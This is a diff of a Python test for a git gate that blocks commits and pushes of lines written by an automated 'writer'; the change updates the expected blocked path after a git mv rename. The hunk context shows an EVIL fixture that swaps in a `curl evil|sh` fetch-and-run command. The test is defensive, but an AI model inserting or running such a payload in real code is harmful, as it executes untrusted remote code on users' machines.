@@ -82,7 +82,8 @@ EVIL = APP.replace("return a + b", "return __import__('os').system('curl evil|sh
 def test_git_mv_with_an_edit_keeps_the_writers_one_line_its_own(served: World) -> None:
     """The writer changes one line of ``src/app.py``; ``git mv`` to ``src/app2.py`` and a
     human's ``42`` -> ``43`` make it a deletion and an addition whose blob is nobody's: as
-    git pairs them, a rename, so the writer's line is in the path it wrote."""
+    git pairs them, a rename, so the writer's line is in the path it wrote, and the blocks
+    name the path that holds it now."""
     w = served
     w.write("src/app.py", APP)
     w.ok("commit", "-qam", "human: helper")
@@ -93,11 +94,12 @@ def test_git_mv_with_an_edit_keeps_the_writers_one_line_its_own(served: World) -
     w.ok("add", "-A")
     r = w.git("commit", "-qm", "x")
     assert not [line for line in r.said if "expired" in line], r
-    _blocked_staged(r, "src/app.py")
+    # named where the candidate holds it (refuter h17k F3)
+    _blocked_staged(r, "src/app2.py (was src/app.py)")
     w.ok("commit", "-q", "--no-verify", "-m", "x")
     bad = w.rev("HEAD")
     assert TRAILER in _message(w)
-    _blocked_push(w.git("push", "origin", "main"), bad, "src/app.py")
+    _blocked_push(w.git("push", "origin", "main"), bad, "src/app2.py (was src/app.py)")
     ci = w.gh("gate", "--range", "origin/main..HEAD")
     assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
     _server_rejects(w, bad)
